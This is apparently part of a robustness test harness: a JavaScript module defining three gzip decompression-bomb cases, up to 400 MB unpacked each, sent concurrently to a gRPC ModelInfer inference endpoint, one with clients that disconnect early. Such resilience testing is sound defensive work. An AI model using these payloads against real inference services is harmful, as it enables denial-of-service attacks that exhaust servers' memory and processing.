/**
 * Attacks with messages of ModelInfer: few bytes that unpack to many, or that cost much for each.
 */
import { compressedCall, concurrently, grpcOnce } from "./support.mjs";

const MEGABYTE = 2 ** 20;

/** 102 KB of gzip: 52 million empty inputs. */
export const emptyInputs = {
  id: "grpc-empty-inputs",
  title: "gzip of 52 M empty `inputs` (2a 00)",
  prepare() {
    const call = compressedCall(Buffer.alloc(104 * MEGABYTE, Buffer.from([0x2a, 0])));
    return ({ grpc, until }) => concurrently(2, until, () => grpcOnce(grpc, call, until));
  },
};

/** 408 KB of gzip: 400 MB of zeros, which are fields of the number 0. */
export const zeros = {
  id: "grpc-zeros",
  title: "eight gzip messages of 400 MB of zeros",
  prepare() {
    const call = compressedCall(Buffer.alloc(400 * MEGABYTE));
    return ({ grpc, until }) => concurrently(8, until, () => grpcOnce(grpc, call, until));
  },
};

/** The same from clients that leave at once: the server should not work on. */
export const gone = {
  id: "grpc-gone",
  title: "gzip of 400 MB of zeros, clients leave after 50 ms",
  prepare() {
    const call = compressedCall(Buffer.alloc(400 * MEGABYTE));
    return ({ grpc, until }) => concurrently(4, until, () => grpcOnce(grpc, call, Math.min(until, Date.now() + 50)));
  },
};
